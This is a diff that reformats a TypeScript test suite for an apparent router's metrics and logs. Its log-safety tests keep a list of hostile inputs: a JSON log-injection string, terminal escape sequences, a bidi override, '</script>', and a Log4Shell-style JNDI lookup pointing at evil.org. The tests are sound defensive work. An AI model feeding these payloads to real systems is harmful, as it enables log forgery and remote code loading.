@@ -37,10 +37,13 @@ describe("metrics", () => {
       dimensions: { service: "router", environment: "dev", region: "eu-west-1" },
       metrics,
     });
-    const expected = JSON.parse(JSON.stringify(theirs.serializeMetrics())) as { _aws: { CloudWatchMetrics: { Dimensions: string[][] }[] } };
+    const expected = JSON.parse(JSON.stringify(theirs.serializeMetrics())) as {
+      _aws: { CloudWatchMetrics: { Dimensions: string[][] }[] };
+    };
     const actual = JSON.parse(ours) as typeof expected;
     // The order of names within a set of dimensions says nothing.
-    for (const each of [expected, actual]) for (const { Dimensions } of each._aws.CloudWatchMetrics) Dimensions[0]!.sort();
+    for (const each of [expected, actual])
+      for (const { Dimensions } of each._aws.CloudWatchMetrics) Dimensions[0]!.sort();
     expect(actual).toEqual(expected);
     vi.useRealTimers();
     vi.unstubAllEnvs();
@@ -85,24 +88,42 @@ describe("metrics", () => {
       TableAge: 10,
       TablePollFailures: 2,
       cells: { "cell-7": 124 },
-      whys: { "no-tenant": 1, "unknown-country": 1, "duplicate-header": 1, "no-such-path": 1, "long-body": 1, health: 1 },
+      whys: {
+        "no-tenant": 1,
+        "unknown-country": 1,
+        "duplicate-header": 1,
+        "no-such-path": 1,
+        "long-body": 1,
+        health: 1,
+      },
     });
     expect((line!["DecisionTime"] as number[]).length).toBeGreaterThan(2);
   });
 
   it("tell that no cell is up, that cells stand in, and that tables were refused", async () => {
-    const down = seedContent().cells.map((each) => (each.locality === "EU" ? { ...each, state: "disabled" as const } : each));
+    const down = seedContent().cells.map((each) =>
+      each.locality === "EU" ? { ...each, state: "disabled" as const } : each,
+    );
     const fetch = () => Promise.resolve(object("<html>"));
     const { handler, source, clock, lines } = setup({ base: seedTable({ cells: down }), fetch });
     handler(ask("acme", "DE"));
     await source.idle();
     clock.ms = flushMs;
     handler(ask("acme", "DE"));
-    expect(metricsOf(lines).map(({ NoHealthyCell, TablesRefused, Unavailable }) => [NoHealthyCell, TablesRefused, Unavailable])).toEqual([
+    expect(
+      metricsOf(lines).map(({ NoHealthyCell, TablesRefused, Unavailable }) => [
+        NoHealthyCell,
+        TablesRefused,
+        Unavailable,
+      ]),
+    ).toEqual([
       [1, 0, 1],
       [1, 1, 1],
     ]);
-    expect(logsOf(lines).find(({ message }) => message === "table-refused")).toMatchObject({ level: "ERROR", service: "router" });
+    expect(logsOf(lines).find(({ message }) => message === "table-refused")).toMatchObject({
+      level: "ERROR",
+      service: "router",
+    });
   });
 });
 
@@ -112,7 +133,12 @@ describe("the log", () => {
     const answered = (): readonly object[] => logsOf(lines).filter(({ message }) => message === "redirected");
     for (let i = 0; i < 500; i++) handler(ask(`t-${i}`, "US"));
     expect(answered()).toHaveLength(5);
-    expect(answered()[0]).toMatchObject({ level: "INFO", cell: expect.stringMatching(/^cell-\d$/), why: "home", age: 0 });
+    expect(answered()[0]).toMatchObject({
+      level: "INFO",
+      cell: expect.stringMatching(/^cell-\d$/),
+      why: "home",
+      age: 0,
+    });
     for (let i = 500; i < 5000; i++) handler(ask(`t-${i}`, "US"));
     expect(answered()).toHaveLength(mostAnswerLines);
     lines.length = 0;
@@ -128,20 +154,36 @@ describe("the log", () => {
     const { handler, lines } = setup({ logEvery: 1 });
     handler({ ...ask("acme", "CN"), requestContext: { requestId: "JKJaXmPLvHcESHA=" } });
     handler({ ...ask("acme", "CN"), requestContext: { requestId: 'x"\n{"level":"INFO"}' } });
-    expect(logsOf(lines).filter(({ message }) => message === "redirected").map((line) => line["function_request_id"])).toEqual([
-      "JKJaXmPLvHcESHA=",
-      undefined,
-    ]);
+    expect(
+      logsOf(lines)
+        .filter(({ message }) => message === "redirected")
+        .map((line) => line["function_request_id"]),
+    ).toEqual(["JKJaXmPLvHcESHA=", undefined]);
   });
 });
 
 describe("T27: what comes from outside, in the log", () => {
-  const evil = ["x\n{\"level\":\"ERROR\"}", "\u001b[2J", "\u2028", "\u202eabc", "\u009b31m", "${jndi:ldap://evil.org}", "</script>", "\ud800"];
+  const evil = [
+    'x\n{"level":"ERROR"}',
+    "\u001b[2J",
+    "\u2028",
+    "\u202eabc",
+    "\u009b31m",
+    "${jndi:ldap://evil.org}",
+    "</script>",
+    "\ud800",
+  ];
 
   it("is never there as it came: headers, paths and queries are not written at all", () => {
     const { handler, lines } = setup({ identity: defaultIdentity, logEvery: 1 });
     for (const text of evil) {
-      for (const name of ["x-tenant-id", "cloudfront-viewer-country", "x-edge-secret", "user-agent", "x-routing-refused"]) {
+      for (const name of [
+        "x-tenant-id",
+        "cloudfront-viewer-country",
+        "x-edge-secret",
+        "user-agent",
+        "x-routing-refused",
+      ]) {
         const event = ask("acme", "CN", `/marker${text}`, `marker=${text}`);
         handler({ ...event, headers: { ...event.headers, "x-edge-secret": edgeSecret, [name]: `marker${text}` } });
       }
@@ -163,7 +205,10 @@ describe("T27: what comes from outside, in the log", () => {
   });
 
   it("cannot be forged by a table that was published broken", async () => {
-    const text = encodeTable(seedTable({}, 2)).replace('"environment":"test"', '"environment":"test\\n{\\"level\\":\\"INFO\\"}"');
+    const text = encodeTable(seedTable({}, 2)).replace(
+      '"environment":"test"',
+      '"environment":"test\\n{\\"level\\":\\"INFO\\"}"',
+    );
     const { handler, source, lines } = setup({ fetch: () => Promise.resolve(object(text)) });
     handler(ask("acme", "CN"));
     await source.idle();
